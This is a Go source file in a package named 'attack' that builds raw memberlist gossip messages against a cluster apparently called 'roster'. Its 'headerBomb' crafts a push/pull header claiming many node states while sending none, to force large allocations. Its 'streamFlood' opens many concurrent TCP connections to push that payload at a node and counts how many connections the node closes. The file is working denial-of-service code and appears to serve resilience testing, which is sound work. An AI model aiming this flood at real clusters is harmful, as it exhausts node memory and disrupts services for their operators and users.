//go:build linux

package attack

import (
	"bytes"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/hashicorp/go-msgpack/v2/codec"
)

// memberlist's wire format, as a stranger writes it (memberlist's net.go
// and label.go).
const (
	msgPushPull = 6
	msgHasLabel = 244
)

// clusterLabel is the label roster puts on gossip: the cluster name
// (axoniq.axonserver.cluster.name, "default").
const clusterLabel = "default"

// pushPullHeader is memberlist's pushPullHeader.
type pushPullHeader struct {
	Nodes        int
	UserStateLen int
	Join         bool
}

// labelled prefixes b with memberlist's label header.
func labelled(label string, b []byte) []byte {
	return append([]byte{msgHasLabel, byte(len(label))}, append([]byte(label), b...)...)
}

// headerBomb is the push/pull header that claims nodes node states and
// sends none: memberlist would allocate the node array before reading any.
func headerBomb(nodes int) []byte {
	var buf bytes.Buffer
	buf.WriteByte(msgPushPull)
	if err := codec.NewEncoder(&buf, &codec.MsgpackHandle{}).Encode(&pushPullHeader{Nodes: nodes}); err != nil {
		panic(err) // a fixed struct always encodes
	}
	return labelled(clusterLabel, buf.Bytes())
}

// streamFlood has conns connections at a time send payload to addr and
// read until the node hangs up, for d; it returns how many it made and
// how many the node closed within 5 s of the payload.
func streamFlood(addr string, conns int, d time.Duration, payload func() []byte) (made, closed int) {
	var m, c atomic.Int64
	var wg sync.WaitGroup
	stop := time.Now().Add(d)
	for range conns {
		wg.Go(func() {
			for time.Now().Before(stop) {
				conn, err := net.DialTimeout("tcp", addr, time.Second)
				if err != nil {
					continue
				}
				m.Add(1)
				_, _ = conn.Write(payload())
				_ = conn.SetReadDeadline(time.Now().Add(5 * time.Second))
				if _, err := io.Copy(io.Discard, conn); err == nil || isClosed(err) {
					c.Add(1)
				}
				_ = conn.Close()
			}
		})
	}
	wg.Wait()
	return int(m.Load()), int(c.Load())
}
